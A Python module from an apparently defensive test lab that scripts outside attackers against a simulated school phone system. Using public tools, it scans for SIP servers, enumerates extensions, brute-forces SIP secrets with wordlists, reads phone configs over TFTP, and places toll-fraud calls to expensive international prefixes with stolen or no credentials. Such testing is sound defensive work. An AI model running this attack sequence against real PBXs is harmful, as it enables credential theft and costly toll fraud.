"""What strangers do to the school, with public tools only: svmap, svwar, svcrack, tftp, curl and SIPp."""

import random
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.lab import sipp
from tests.lab.phones import tftp_read
from tests.lab.school import Account
from tests.lab.sipp import Call, Client, Session
from tests.lab.topology import EDGE_PUBLIC, OFFICE_GATEWAY, OFFICE_PC, PBX, Topology, route

SCANNER = "198.51.100.77"
THIEF = "203.0.113.66"
SECOND_THIEF = "203.0.113.67"
SLOW_GUESSERS = ("203.0.113.140", "198.51.100.141", "203.0.113.142", "198.51.100.143")
GUEST_CALLER = "203.0.113.90"
TOOL_AGENT = "eyeBeam release 3006o stamp 17551"

# Somalia, Latvia, Cuba, Iridium, Maldives: where toll fraud is paid out.
_FRAUD_PREFIXES = ("901125261", "901137122", "90115352", "90118816", "90119607")


def fraud_numbers(count: int, seed: str) -> list[str]:
    """Return that many dialled numbers (with the outside-line prefix) to expensive countries."""
    dice = random.Random(seed)
    first = dice.randrange(len(_FRAUD_PREFIXES))
    prefixes = [_FRAUD_PREFIXES[(first + n) % len(_FRAUD_PREFIXES)] for n in range(count)]
    return [f"{prefix}{dice.randrange(10**6, 10**7)}" for prefix in prefixes]


@dataclass(frozen=True, slots=True, kw_only=True)
class Stranger:
    """Someone with one address who attacks the school; ``folder`` keeps their tools' files."""

    net: Topology
    folder: Path
    address: str
    talk_ms: int = 2500

    @property
    def namespace(self) -> str:
        """Return where this stranger sits: at a desk in the office VLAN, or on the Internet."""
        return "office" if self.address == OFFICE_PC else "inet"

    @property
    def target(self) -> str:
        """Return the address at which this stranger finds the school."""
        return PBX if self.namespace == "office" else EDGE_PUBLIC

    def scan(self) -> None:
        """Look for SIP servers (svmap) and at the web page."""
        self._tool("svmap", "-p", "5060,5160", "-m", "OPTIONS", self.target)
        self._tool("curl", "-s", "-m", "5", f"http://{self.target}/admin/")

    def list_extensions(self, *, port: int, numbers: str) -> None:
        """Ask which extensions there are (svwar); by INVITE, because alwaysauthreject hides them from REGISTER."""
        self._tool("svwar", "-p", str(port), "-m", "INVITE", "-e", numbers, self.target)

    def guess(self, account: Account, words: Sequence[str], *, pause_seconds: float = 0.0) -> str:
        """Try secrets for one extension (svcrack), and return what the tool printed."""
        self.folder.mkdir(parents=True, exist_ok=True)
        listed = self.folder / "words.txt"
        listed.write_text("".join(f"{word}\n" for word in words))
        slowly = ("-t", str(pause_seconds)) if pause_seconds else ()
        where = ("-p", str(account.port), "-u", account.extension)
        return self._tool("svcrack", *where, *slowly, "--maximumtime", "2", "-d", str(listed), self.target)

    def read_files(self, names: Sequence[str]) -> None:
        """Read files from the school's TFTP server."""
        self._settle()
        self.net.shell(self.namespace, "\n".join(tftp_read(self.target, name) for name in names))

    def use(self, accounts: Sequence[Account], numbers: Mapping[str, Sequence[str]], *, registers: bool) -> None:
        """Dial with stolen secrets, registered or not: a digest on the INVITE is enough."""
        self._settle()
        slots = max(len(numbers[account.extension]) for account in accounts)
        blocks = [*([sipp.register()] if registers else []), *(sipp.call(slot) for slot in range(slots))]
        for port in sorted({account.port for account in accounts}):
            session = Session(
                namespace=self.namespace,
                folder=self.folder / f"stolen-{port}",
                server=self.target,
                port=port,
                scenario_text=sipp.scenario("stolen accounts", *blocks),
                clients=[
                    self._client(account, numbers[account.extension]) for account in accounts if account.port == port
                ],
                local_port=5071,
                rate_per_second=2,
            )
            sipp.play(self.net, session, timeout_seconds=60 + 2 * slots * self.talk_ms // 1000)

    def call_as_guest(self, numbers: Sequence[str], *, port: int) -> None:
        """Dial with no account at all."""
        self._settle()
        calls = tuple(Call(wait_ms=500, number=number, talk_ms=2000) for number in numbers)
        blocks = [sipp.call(slot, authenticates=False) for slot in range(len(calls))]
        session = Session(
            namespace=self.namespace,
            folder=self.folder / "guest",
            server=self.target,
            port=port,
            scenario_text=sipp.scenario("guest", *blocks),
            clients=[
                Client(account="visitor", address=self.address, secret="", user_agent=TOOL_AGENT, calls=calls),
            ],
            local_port=5072,
        )
        sipp.play(self.net, session)

    def _client(self, account: Account, numbers: Sequence[str]) -> Client:
        return Client(
            account=account.extension,
            address=self.address,
            secret=account.secret,
            user_agent=TOOL_AGENT,
            calls=tuple(Call(wait_ms=700, number=number, talk_ms=self.talk_ms) for number in numbers),
        )

    def _settle(self) -> None:
        """Take the address: most tools cannot choose their source, so the route to the target names it."""
        self.net.add_addresses(self.namespace, (self.address,))
        self.net.run(self.namespace, "ip", *route(self.target, self.address, gateway=self._gateway))

    @property
    def _gateway(self) -> str:
        return OFFICE_GATEWAY if self.namespace == "office" else ""

    def _tool(self, *argv: str) -> str:
        """Run a tool that keeps its sessions under HOME, and whose exit code says nothing of use."""
        self._settle()
        self.folder.mkdir(parents=True, exist_ok=True)
        script = f'HOME="{self.folder}" timeout 60 "$@" 2>&1 || true'
        return self.net.run(self.namespace, "sh", "-c", script, "sh", *argv, timeout_seconds=90)
